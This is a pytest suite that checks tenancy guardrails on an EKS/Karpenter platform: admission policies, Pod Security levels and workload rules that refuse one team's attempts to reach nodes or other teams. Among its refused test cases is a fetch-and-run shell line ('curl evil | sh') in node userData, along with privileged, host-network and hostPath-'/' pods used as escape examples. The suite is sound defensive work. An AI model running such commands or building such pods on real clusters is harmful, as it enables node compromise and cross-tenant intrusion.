"""Tenancy guardrails: each team's rendered ValidatingAdmissionPolicy, evaluated with CEL against objects the team
may and may not create, change or delete; and the policies on the dev plan."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from eks_karpenter.platform.access.config import Team
from eks_karpenter.platform.access.guardrails import (
    TEAM_LABEL,
    PlatformNodeAccess,
    policy_name,
    team_guardrails,
    team_policy,
)
from eks_karpenter.platform.access.plan import team_group
from eks_karpenter.platform.nodepool import render_node_class, render_node_pool
from eks_karpenter.platform.nodepool.config import NodeClassConfig, NodePoolConfig

from tests.support import plan_config, plan_stack, requires_upstream, stack_config
from tests.support.admission import admit

CLUSTER, ROLE = "dev-karpenter", "dev-karpenter-karpenter-node"
PLATFORM = PlatformNodeAccess(cluster_name=CLUSTER, node_role_name=ROLE, instance_profile=None,
                              security_group_ids=("sg-0123456789abcdef0",), node_classes=("default",))
TEAM = Team.model_validate({"name": "batch", "namespaces": ["batch"], "nodePools": True,
                            "principalArns": ["arn:aws:iam::123456789012:role/team-batch-deploy"],
                            "nodePoolLimits": {"cpu": "200", "memory": "400Gi"}})
POLICY = team_policy(TEAM, PLATFORM)
BATCH = [team_group("batch"), "system:authenticated"]


def node_class(name: str = "batch-spot", **changes: Any) -> dict[str, Any]:
    manifest = render_node_class(NodeClassConfig.model_validate({"name": name}), CLUSTER, ROLE, {"team": "batch"})
    manifest["spec"].update(changes)
    return manifest


TEAM_TAINT = {"key": TEAM_LABEL, "value": "batch", "effect": "NoSchedule"}


def node_pool(name: str = "batch-spot", node_class_name: str = "batch-spot",
              limits: dict[str, Any] | None = None, **changes: Any) -> dict[str, Any]:
    """A team pool as the team should write it (its label and taint); `changes` are stack-file keys."""
    manifest = render_node_pool(NodePoolConfig.model_validate({
        "name": name, "nodeClass": node_class_name, "limits": limits or {"cpu": "200", "memory": "400Gi"},
        "labels": {TEAM_LABEL: "batch"}, "taints": [TEAM_TAINT], **changes}))
    return manifest


def denied(obj: dict[str, Any] | None, operation: str = "CREATE", old: dict[str, Any] | None = None,
           groups: list[str] = BATCH) -> list[str]:
    decision = admit(POLICY, operation, groups, obj, old)
    assert decision.matched
    return decision.denied


# --- allowed ---------------------------------------------------------------------------------------------------

def test_the_teams_own_class_and_pool_are_admitted() -> None:
    assert denied(node_class()) == []
    assert denied(node_class(associatePublicIPAddress=False,
                             metadataOptions={"httpTokens": "required", "httpPutResponseHopLimit": 1})) == []
    assert denied(node_pool()) == []
    assert denied(node_pool(node_class_name="default")) == []  # the platform's class
    assert denied(node_pool(), "UPDATE", old=node_pool()) == []
    assert denied(None, "DELETE", old=node_pool()) == []


def test_a_team_labelled_object_is_the_teams() -> None:
    pool = node_pool(name="nightly-reports")
    pool["metadata"]["labels"] = {TEAM_LABEL: "batch"}
    assert denied(pool) == []


def test_the_instance_profile_and_node_security_group_ids_of_the_platform_are_admitted() -> None:
    platform = PlatformNodeAccess(CLUSTER, ROLE, ROLE, ("sg-0123456789abcdef0",), ("default",))
    policy = team_policy(TEAM, platform)
    cls = node_class(securityGroupSelectorTerms=[{"id": "sg-0123456789abcdef0"}])
    del cls["spec"]["role"]
    cls["spec"]["instanceProfile"] = ROLE
    assert admit(policy, "CREATE", BATCH, cls).denied == []


def test_an_adopted_vpcs_subnets_are_admitted_by_id_and_no_others() -> None:
    # An adopted VPC stays untagged (network.writeDiscoveryTags off): the platform's classes select its subnets by
    # id, and a team's class may select the same ones, never another subnet.
    platform = PlatformNodeAccess(CLUSTER, ROLE, None, ("sg-0123456789abcdef0",), ("default",),
                                  subnet_ids=("subnet-0a1b2c3d4e5f60001", "subnet-0a1b2c3d4e5f60002"))
    policy = team_policy(TEAM, platform)
    ours = node_class(subnetSelectorTerms=[{"id": "subnet-0a1b2c3d4e5f60001"}, {"id": "subnet-0a1b2c3d4e5f60002"}])
    assert admit(policy, "CREATE", BATCH, ours).denied == []
    other = node_class(subnetSelectorTerms=[{"id": "subnet-0a1b2c3d4e5f69999"}])
    assert any("adopted subnets' ids" in d for d in admit(policy, "CREATE", BATCH, other).denied)
    # Without adopted subnets, an id is refused as before.
    assert denied(ours)


def test_brownfield_teams_may_use_the_adopted_subnets(tmp_path: Path) -> None:
    config = stack_config("brownfield")
    config["eks-karpenter:access"] = {**config.get("eks-karpenter:access", {}), "teams": [TEAM.dump()]}
    result = plan_config(config, tmp_path, stack="brownfield")
    assert result.error is None, result.error
    (policy,) = [p for p in result.document.by_type(
        "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy")
        if p.inputs["metadata"]["name"] == policy_name("batch")]
    # The team's class copies the platform's: role, security groups and subnets, all by the ids the stack uses.
    (platform_class,) = result.document.by_type("kubernetes:karpenter.k8s.aws/v1:EC2NodeClass")
    cls = copy.deepcopy({k: platform_class.inputs[k] for k in ("apiVersion", "kind", "metadata", "spec")})
    cls["metadata"]["name"] = "batch-spot"
    subnets = sorted(config["eks-karpenter:network"]["privateSubnetIds"].values())
    assert sorted(t["id"] for t in cls["spec"]["subnetSelectorTerms"]) == subnets
    assert admit(policy.inputs, "CREATE", BATCH, cls).denied == []


def test_requests_outside_the_team_are_not_matched() -> None:
    admin = admit(POLICY, "CREATE", ["system:masters"], node_class("anything", userData="#!/bin/sh"))
    assert not admin.matched  # the platform's own deploys and admins are not held to the team's rules
    other = admit(POLICY, "CREATE", [team_group("web")], node_pool("web-pool"))
    assert not other.matched


# --- forbidden ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("obj", "why"), [
    (node_class(userData="#!/bin/bash\ncurl evil | sh"), "userData"),
    (node_class(role="arn-less-admin-role"), "node role"),
    (node_class(role="platform-break-glass"), "node role"),
    (node_class(amiSelectorTerms=[{"id": "ami-0123456789abcdef0"}]), "alias only"),
    (node_class(amiSelectorTerms=[{"alias": "al2023@v20260815", "owner": "self"}]), "alias only"),
    (node_class(securityGroupSelectorTerms=[{"tags": {"Name": "wide-open"}}]), "security groups"),
    (node_class(securityGroupSelectorTerms=[{"id": "sg-0fffffffffffffff0"}]), "security groups"),
    (node_class(subnetSelectorTerms=[{"tags": {"kubernetes.io/role/elb": "1"}}]), "subnets"),
    (node_class(subnetSelectorTerms=[{"id": "subnet-0123456789abcdef0"}]), "subnets"),
    (node_class(associatePublicIPAddress=True), "public IP"),
    (node_class(metadataOptions={"httpTokens": "optional"}), "IMDSv2-only"),
    (node_class(metadataOptions={"httpTokens": "required", "httpPutResponseHopLimit": 2}), "hop limit 1"),
    (node_class(name="web-spot"), "named 'batch-...'"),
    (node_class(name="default"), "named 'batch-...'"),
    (node_pool(limits={"cpu": "201", "memory": "400Gi"}), "at most 200 cpu"),
    (node_pool(limits={"cpu": "100", "memory": "1Ti"}), "at most 200 cpu"),
    (node_pool(node_class_name="web-spot"), "own node classes"),
    (node_pool(name="general"), "named 'batch-...'"),
    (node_class(kubelet={"clusterDNS": ["10.0.0.53"]}), "clusterDNS"),
    (node_class(capacityReservationSelectorTerms=[{"id": "cr-0123456789abcdef0"}]), "capacity reservations"),
    (node_class(blockDeviceMappings=[{"deviceName": "/dev/xvdb", "ebs": {"snapshotID": "snap-0123456789abcdef0"}}]),
     "EBS snapshot"),
    (node_pool(labels={}), f"label {TEAM_LABEL}=batch"),
    (node_pool(labels={TEAM_LABEL: "web"}), f"label {TEAM_LABEL}=batch"),
    (node_pool(taints=[]), f"taint {TEAM_LABEL}=batch:NoSchedule"),
    (node_pool(taints=[{**TEAM_TAINT, "effect": "PreferNoSchedule"}]), "NoSchedule"),
    (node_pool(taints=[{**TEAM_TAINT, "value": "web"}]), "NoSchedule"),
    (node_pool(labels={TEAM_LABEL: "batch", "node-role/system": "true"}), "no label in the domains"),
    (node_pool(labels={TEAM_LABEL: "batch", "node.kubernetes.io/instance-type": "m5.large"}),
     "no label in the domains"),
    (node_pool(labels={TEAM_LABEL: "batch", "topology.kubernetes.io/zone": "eu-west-1a"}), "no label in the domains"),
    (node_pool(labels={TEAM_LABEL: "batch", "eks-karpenter/tier": "platform"}), "no label in the domains"),
    (node_pool(weight=1), "weight may not exceed"),
])
def test_forbidden_objects_are_refused(obj: dict[str, Any], why: str) -> None:
    messages = denied(obj)
    assert any(why in m for m in messages), messages


def test_a_team_pool_with_its_own_plain_labels_and_extra_taints_is_admitted() -> None:
    pool = node_pool(labels={TEAM_LABEL: "batch", "team": "batch", "example.com/tier": "batch"},
                     taints=[TEAM_TAINT, {"key": "gpu", "value": "true", "effect": "NoSchedule"}])
    assert denied(pool) == []


def test_a_team_pool_may_weigh_as_much_as_the_lightest_platform_pool() -> None:
    weighted = PlatformNodeAccess(**{**PLATFORM.__dict__, "pool_weights": (50, 10)})
    policy = team_policy(TEAM, weighted)
    assert admit(policy, "CREATE", BATCH, node_pool(weight=10)).denied == []
    assert any("at most 10" in m for m in admit(policy, "CREATE", BATCH, node_pool(weight=11)).denied)
    one_unweighted = PlatformNodeAccess(**{**PLATFORM.__dict__, "pool_weights": (50, None)})
    assert any("sets none" in m for m in admit(team_policy(TEAM, one_unweighted), "CREATE", BATCH,
                                                node_pool(weight=1)).denied)


def test_a_pool_without_limits_is_refused() -> None:
    pool = node_pool()
    del pool["spec"]["limits"]
    assert any("must set limits" in m for m in denied(pool))


def test_taking_over_or_deleting_another_teams_object_is_refused() -> None:
    platform_pool = node_pool(name="general", node_class_name="default")
    relabelled = copy.deepcopy(platform_pool)
    relabelled["metadata"]["labels"] = {TEAM_LABEL: "batch"}
    assert denied(relabelled, "UPDATE", old=platform_pool)
    assert denied(None, "DELETE", old=platform_pool)


def test_a_team_label_for_another_team_does_not_count() -> None:
    pool = node_pool(name="nightly")
    pool["metadata"]["labels"] = {TEAM_LABEL: "web"}
    assert denied(pool)


# --- the plan ------------------------------------------------------------------------------------------------------

def test_dev_plans_a_policy_and_binding_for_its_pool_team_before_its_rights() -> None:
    doc = plan_stack("dev")
    policies = doc.by_type("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy")
    bindings = doc.by_type("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding")
    assert [p.inputs["metadata"]["name"] for p in policies] == ["eks-karpenter-team-batch-node-pools",
                                                                "eks-karpenter-team-batch-workloads"]
    assert bindings[0].inputs["spec"] == {"policyName": "eks-karpenter-team-batch-node-pools",
                                          "validationActions": ["Deny"]}
    rights = doc.get("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
                     "access-team-batch-node-pools")
    assert bindings[0].urn in rights.options["dependsOn"]
    # The planned policy holds the dev stack's own values: its node role and the team's ceiling.
    policy = policies[0].inputs
    role = doc.outputs["expectedNodeRoleName"]
    cls = render_node_class(NodeClassConfig.model_validate({"name": "batch-x"}), doc.outputs["clusterName"], role,
                            {})
    assert admit(policy, "CREATE", BATCH, cls).denied == []
    cls["spec"]["role"] = "someone-else"
    assert admit(policy, "CREATE", BATCH, cls).denied


def test_no_policy_for_teams_without_pool_rights(tmp_path: Path) -> None:
    config = stack_config("dev")
    config["eks-karpenter:access"]["teams"][0]["nodePools"] = False
    result = plan_config(config, tmp_path)
    assert result.error is None, result.error
    doc = result.document
    policies = doc.by_type("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy")
    assert [p.inputs["metadata"]["name"] for p in policies] == ["eks-karpenter-team-batch-workloads"]
    assert [p["metadata"]["name"] for p, _ in team_guardrails([TEAM.model_copy(update={"node_pools": False})],
                                                               PLATFORM)] == ["eks-karpenter-team-batch-workloads"]


@requires_upstream
def test_allowed_objects_also_pass_the_crds() -> None:
    from tests.support.crd_validator import validate_object

    assert validate_object(node_class()) == []
    assert validate_object(node_pool()) == []


def test_pool_rights_need_kubernetes_1_30(tmp_path: Path) -> None:
    config = stack_config("dev")
    config["eks-karpenter:cluster"]["version"] = "1.29"
    result = plan_config(config, tmp_path)
    message = str(result.error)
    assert "nodePools" in message and "1.30" in message, message
    assert not result.document.resources


def test_an_adopted_cluster_older_than_1_30_refuses_pool_rights_by_its_real_version() -> None:
    import json

    from eks_karpenter.tools.engine import mocks as engine_mocks
    from eks_karpenter.tools.engine import run_plan

    from tests.support import REPO

    def old_cluster(args: dict[str, Any]) -> dict[str, Any]:
        found = engine_mocks.placeholder_answer("aws:eks/getCluster:getCluster", args, "us-west-2", recorded=True)
        return {**found, "version": "1.29"}

    team = {"name": "batch", "namespaces": ["batch"], "nodePools": True,
            "principalArns": ["arn:aws:iam::123456789012:role/team-batch-deploy"]}
    access = json.dumps({"teams": [team]})
    result = run_plan(REPO, "brownfield", invoke_results={"aws:eks/getCluster:getCluster": old_cluster},
                      config_overrides={"eks-karpenter:access": access})
    text = str(result.error)
    assert "eks-karpenter:access.teams[0].nodePools" in text and "runs 1.29" in text, text
    assert not result.document.resources
    fine = run_plan(REPO, "brownfield", config_overrides={"eks-karpenter:access": access})  # the mock's 1.33
    assert fine.error is None, fine.error


# --- names that overlap ------------------------------------------------------------------------------------------

def test_a_team_inside_another_teams_prefix_is_refused(tmp_path: Path) -> None:
    config = stack_config("dev")
    teams = config["eks-karpenter:access"]["teams"]
    teams.append({**teams[0], "name": "batch-nightly", "namespaces": ["nightly"],
                  "principalArns": ["arn:aws:iam::123456789012:role/team-nightly-deploy"]})
    result = plan_config(config, tmp_path)
    message = str(result.error)
    assert "eks-karpenter:access.teams[1].name" in message and "inside team 'batch''s prefix" in message, message
    assert not result.document.resources


def test_team_names_that_share_letters_but_not_the_prefix_are_fine(tmp_path: Path) -> None:
    config = stack_config("dev")
    teams = config["eks-karpenter:access"]["teams"]
    teams.append({**teams[0], "name": "batches", "namespaces": ["batches"],
                  "principalArns": ["arn:aws:iam::123456789012:role/team-batches-deploy"]})
    assert plan_config(config, tmp_path).error is None


@pytest.mark.parametrize("section", ["eks-karpenter:nodePools", "eks-karpenter:nodeClasses"])
def test_a_platform_pool_or_class_inside_a_pool_teams_prefix_is_refused(section: str, tmp_path: Path) -> None:
    config = stack_config("dev")
    config[section][0]["name"] = "batch-platform"
    if section == "eks-karpenter:nodeClasses":
        for pool in config["eks-karpenter:nodePools"]:
            pool["nodeClass"] = "batch-platform"
    result = plan_config(config, tmp_path)
    message = str(result.error)
    assert f"{section}[0].name" in message and "inside team 'batch''s prefix" in message, message


# --- Pod Security ------------------------------------------------------------------------------------------------

POD_SECURITY = "pod-security.kubernetes.io/"


def _namespace_labels(doc: Any, name: str) -> dict[str, str]:
    [namespace] = [r for r in doc.by_type("kubernetes:core/v1:Namespace") if r.inputs["metadata"]["name"] == name]
    return dict(namespace.inputs["metadata"]["labels"])


def test_team_namespaces_enforce_baseline_and_warn_at_restricted() -> None:
    labels = _namespace_labels(plan_stack("dev"), "batch")
    assert {k.removeprefix(POD_SECURITY): v for k, v in labels.items() if k.startswith(POD_SECURITY)} == {
        "enforce": "baseline", "enforce-version": "latest", "audit": "restricted", "audit-version": "latest",
        "warn": "restricted", "warn-version": "latest"}


def test_platform_namespaces_carry_no_team_level() -> None:
    from eks_karpenter.platform.namespaces.plan import platform_namespaces, pod_security_labels

    specs = {s.name: s for s in platform_namespaces(karpenter="karpenter", node_termination_handler="nth",
                                                    teams=[("batch", ["batch"])],
                                                    pod_security={"batch": pod_security_labels("baseline")})}
    assert not any(k.startswith(POD_SECURITY) for name in ("karpenter", "nth") for k in specs[name].labels())
    assert specs["batch"].labels()[POD_SECURITY + "enforce"] == "baseline"


@pytest.mark.parametrize(("level", "mode", "expected"), [
    ("restricted", "enforce", {"enforce": "restricted", "audit": "restricted", "warn": "restricted"}),
    ("privileged", "enforce", {"enforce": "privileged", "audit": "baseline", "warn": "baseline"}),
    ("baseline", "audit", {"audit": "baseline", "warn": "baseline"}),
])
def test_a_teams_level_and_the_audit_step(level: str, mode: str, expected: dict[str, str], tmp_path: Path) -> None:
    config = stack_config("dev")
    config["eks-karpenter:access"]["teams"][0]["podSecurity"] = level
    config["eks-karpenter:access"]["podSecurityMode"] = mode
    result = plan_config(config, tmp_path)
    assert result.error is None, result.error
    labels = _namespace_labels(result.document, "batch")
    assert {k.removeprefix(POD_SECURITY): v for k, v in labels.items()
            if k.startswith(POD_SECURITY) and not k.endswith("-version")} == expected


@pytest.mark.parametrize("level", ["baseline", "privileged"])
def test_a_namespace_under_two_teams_is_refused(level: str, tmp_path: Path) -> None:
    # Each team would hold the other's rights there, and pods could tolerate neither team's taint.
    config = stack_config("dev")
    teams = config["eks-karpenter:access"]["teams"]
    teams.append({"name": "reports", "namespaces": ["reports", "batch"], "podSecurity": level,
                  "principalArns": ["arn:aws:iam::123456789012:role/team-reports-deploy"]})
    result = plan_config(config, tmp_path)
    message = str(result.error)
    assert "eks-karpenter:access.teams[1].namespaces[1]" in message, message
    assert "already team batch's (at teams[0].namespaces[0])" in message, message
    assert not result.document.resources


def test_the_diff_names_namespaces_whose_enforcement_changes(tmp_path: Path) -> None:
    from eks_karpenter.tools.engine.diff import diff_plans, render_diff_markdown

    config = stack_config("dev")
    config["eks-karpenter:access"]["podSecurityMode"] = "audit"
    before = plan_config(config, tmp_path, stack="dev").document
    out = render_diff_markdown(diff_plans(before, plan_stack("dev")))
    assert "Pod Security enforcement changes in namespaces" in out and "`namespaces-batch`: none → baseline" in out


def _pod(**spec: Any) -> dict[str, Any]:
    container = {"name": "app", "image": "public.ecr.aws/docker/library/busybox:1.37"}
    container.update(spec.pop("container", {}))
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "batch"},
            "spec": {"containers": [container], **spec}}


@pytest.mark.parametrize(("pod", "why"), [
    (_pod(container={"securityContext": {"privileged": True}}), "privileged"),
    (_pod(hostNetwork=True), "hostnamespaces"),  # IMDS answers a host-network pod whatever the hop limit
    (_pod(hostPID=True), "hostnamespaces"),
    (_pod(volumes=[{"name": "root", "hostPath": {"path": "/"}}]), "hostpathvolumes"),
    (_pod(volumes=[{"name": "kubelet", "hostPath": {"path": "/var/lib/kubelet"}}]), "hostpathvolumes"),
    (_pod(container={"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}), "capabilities_baseline"),
    (_pod(container={"securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}}), "capabilities_baseline"),
])
def test_a_team_namespace_refuses_the_pods_that_reach_the_node(pod: dict[str, Any], why: str) -> None:
    from tests.support.pod_security import admitted, violations

    labels = _namespace_labels(plan_stack("dev"), "batch")
    assert not admitted(pod, labels)
    assert why in violations(pod, labels["pod-security.kubernetes.io/enforce"])


def test_a_team_namespace_admits_an_ordinary_pod() -> None:
    from tests.support.pod_security import admitted

    pod = _pod(container={"securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"]}}},
               volumes=[{"name": "cache", "emptyDir": {}}])
    assert admitted(pod, _namespace_labels(plan_stack("dev"), "batch"))




# --- the team's pods and Services: hostile-tenant paths ----------------------------------------------------------

def _workload_policy() -> dict[str, Any]:
    from eks_karpenter.platform.access.guardrails import team_workload_policy

    return team_workload_policy(TEAM, PLATFORM)


def _in_team(obj: dict[str, Any], kind: str) -> Any:
    return admit(_workload_policy(), "CREATE", ["system:serviceaccount:kube-system:replicaset-controller"], obj,
                 None, resource=kind, namespace="batch")


@pytest.mark.parametrize(("obj", "kind", "why"), [
    ({"spec": {"type": "ClusterIP", "externalIPs": ["10.1.2.3"], "ports": [{"port": 5432}]}}, "services",
     "externalIPs"),
    (_pod(priorityClassName="system-node-critical"), "pods", "preempt"),
    (_pod(priorityClassName="system-cluster-critical"), "pods", "preempt"),
    (_pod(tolerations=[{"operator": "Exists"}]), "pods", "keyless toleration"),
    (_pod(tolerations=[{"key": TEAM_LABEL, "operator": "Equal", "value": "web", "effect": "NoSchedule"}]), "pods",
     "another team's"),
    (_pod(tolerations=[{"key": TEAM_LABEL, "operator": "Exists"}]), "pods", "another team's"),
    (_pod(nodeSelector={"node-role/system": "true"}), "pods", "system nodes"),
])
def test_a_teams_pods_and_services_cannot_reach_others(obj: dict[str, Any], kind: str, why: str) -> None:
    decision = _in_team(obj, kind)
    assert decision.matched and any(why in m for m in decision.denied), decision.denied


def test_a_teams_ordinary_pod_on_its_own_pool_is_admitted() -> None:
    pod = _pod(nodeSelector={"karpenter.sh/nodepool": "batch-spot"}, priorityClassName="batch-high",
               tolerations=[{"key": TEAM_LABEL, "operator": "Equal", "value": "batch", "effect": "NoSchedule"},
                            {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute",
                             "tolerationSeconds": 300}])
    assert _in_team(pod, "pods").denied == []


def test_other_namespaces_are_not_the_workload_policys() -> None:
    decision = admit(_workload_policy(), "CREATE", ["system:masters"], _pod(priorityClassName="system-node-critical"),
                     None, resource="pods", namespace="kube-system")
    assert not decision.matched


def test_an_imds_hop_limit_above_1_where_team_pods_can_land_is_refused(tmp_path: Path) -> None:
    config = stack_config("dev")
    config["eks-karpenter:cluster"]["spotNodeGroups"][0]["httpPutResponseHopLimit"] = 2
    config["eks-karpenter:nodeClasses"][0]["metadataOptions"] = {"httpPutResponseHopLimit": 2}
    message = str(plan_config(config, tmp_path).error)
    assert "eks-karpenter:cluster.spotNodeGroups[0].httpPutResponseHopLimit" in message, message
    assert "eks-karpenter:nodeClasses[0].metadataOptions.httpPutResponseHopLimit" in message, message


def test_a_label_claim_on_another_teams_prefix_or_a_platform_name_is_refused() -> None:
    platform = PlatformNodeAccess(**{**PLATFORM.__dict__, "pool_teams": ("batch", "web"),
                                     "node_pools": ("general",)})
    policy = team_policy(TEAM, platform)
    for name in ("web-spot", "general", "default"):
        cls = node_class(name)
        cls["metadata"]["labels"] = {TEAM_LABEL: "batch"}
        assert any("may only create" in m for m in admit(policy, "CREATE", BATCH, cls).denied), name


def test_a_team_class_takes_only_the_platforms_ami_and_encrypted_volumes() -> None:
    platform = PlatformNodeAccess(**{**PLATFORM.__dict__, "ami_aliases": ("al2023@v20260815",)})
    policy = team_policy(TEAM, platform)
    assert admit(policy, "CREATE", BATCH, node_class(amiSelectorTerms=[{"alias": "al2023@v20260815"}])).denied == []
    old = node_class(amiSelectorTerms=[{"alias": "al2023@v20250101"}])
    assert any("one the platform runs" in m for m in admit(policy, "CREATE", BATCH, old).denied)
    plain = node_class(blockDeviceMappings=[{"deviceName": "/dev/xvda", "ebs": {"volumeSize": "2000Gi"}}])
    assert any("encrypted" in m for m in admit(policy, "CREATE", BATCH, plain).denied)


def test_a_pool_may_not_require_a_platform_label() -> None:
    pool = node_pool()
    pool["spec"]["template"]["spec"]["requirements"].append(
        {"key": "node-role/system", "operator": "In", "values": ["true"]})
    assert any("requirements name no label in the domains the cluster schedules by" in m for m in denied(pool))
